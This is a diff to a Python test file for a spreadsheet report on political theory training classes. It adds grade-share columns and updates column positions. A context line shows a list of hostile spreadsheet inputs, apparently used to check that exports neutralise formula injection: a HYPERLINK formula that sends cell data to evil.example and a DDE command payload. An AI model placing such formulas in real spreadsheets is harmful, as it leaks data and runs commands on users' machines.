@@ -34,16 +34,20 @@ from tests.factories import (
 )
 from tests.reports.conftest import EXPECTED
 from trainingcenter.models import Membership, Organization
+from trainingcenter.percent import shares
 
 YEAR = {"kind": "year", "year": 2026}
 # Biểu 1 from its third column on, as figures_cells.html lists them.
+GRADE_NAMES = ["excellent", "good", "average", "failed"]
 FIGURES = [
     "target_classes", "target_trainees", "classes", "enrolled",
     "plan_classes_share", "plan_trainees_share", "women", "minorities",
     "cluster_classes", "co_organized_classes", "completed", "passed", "certified",
-    "excellent", "good", "average", "failed",
+    *(name for grade in GRADE_NAMES for name in (grade, f"{grade}_share")),
 ]  # fmt: skip
 SHARES = {"plan_classes_share", "plan_trainees_share"}
+# The share of each grade has a column of its own after the grade's count.
+GRADE_SHARES = {f"{grade}_share" for grade in GRADE_NAMES}
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
     "=cmd|' /C calc'!A0",
@@ -113,8 +117,11 @@ def assert_count(cell, expected):
 
 
 def assert_figures(row, expected: dict):
+    grade_shares = shares({g: expected.get(g, 0) for g in GRADE_NAMES})
     for index, name in enumerate(FIGURES, start=2):
-        if name in SHARES:
+        if name in GRADE_SHARES:
+            assert_share(row[index], grade_shares[name.removesuffix("_share")])
+        elif name in SHARES:
             if name in expected:
                 assert_share(row[index], expected[name])
         else:
@@ -147,14 +154,14 @@ def test_bieu_1_has_the_page_figures(report_site):
     for code in ("nhan-thuc-ve-dang", "dang-vien-moi", "chinh-tri-he"):
         row = row_of(sheet, 1, names[code])
         assert_figures(row, EXPECTED[code])
-    assert row_of(sheet, 1, names["chinh-tri-he"])[19].value == (
+    assert row_of(sheet, 1, names["chinh-tri-he"])[23].value == (
         "Phòng Văn hóa – Xã hội"
     )
     # With no plan, a share has nothing to divide by: "–", as on the page.
     assert row_of(sheet, 1, names["chinh-tri-he"])[6].value == "–"
     total = row_of(sheet, 0, vi("TOTAL"))
     assert_figures(total, EXPECTED["total"])
-    assert total[0].font.b and all(cell.font.b for cell in total[2:19])
+    assert total[0].font.b and all(cell.font.b for cell in total[2:23])
     assert f"A{total[0].row}:B{total[0].row}" in sheet.merged_cells
     # Section and block subtotals are bold rows over "No." and the name.
     # (the summer class outside the plan is part IV, not in bồi dưỡng's 35).
@@ -175,7 +182,7 @@ def test_sheets_are_set_up_to_read_and_print(report_site):
     assert sheet["A3"].value == vi(
         "REPORT ON THE RESULTS OF POLITICAL THEORY EDUCATION %(period)s"
     ) % {"period": (vi("year %(year)s") % {"year": 2026}).upper()}
-    assert "A3:T3" in sheet.merged_cells  # centred over the table
+    assert "A3:X3" in sheet.merged_cells  # centred over the table
     # Two header rows: groups ("Plan") merged over their columns.
     first, last = header_rows(sheet)
     assert (first, last) == (6, 7)
@@ -189,7 +196,7 @@ def test_sheets_are_set_up_to_read_and_print(report_site):
     # The partners under the table: one wrapped line across its width.
     label = vi("Co-organised with")
     note = next(c for c in sheet["A"] if str(c.value).startswith(label))
-    assert f"A{note.row}:T{note.row}" in sheet.merged_cells
+    assert f"A{note.row}:X{note.row}" in sheet.merged_cells
     for sheet in workbook:
         setup = sheet.page_setup
         assert int(setup.paperSize) == 9, sheet.title  # A4
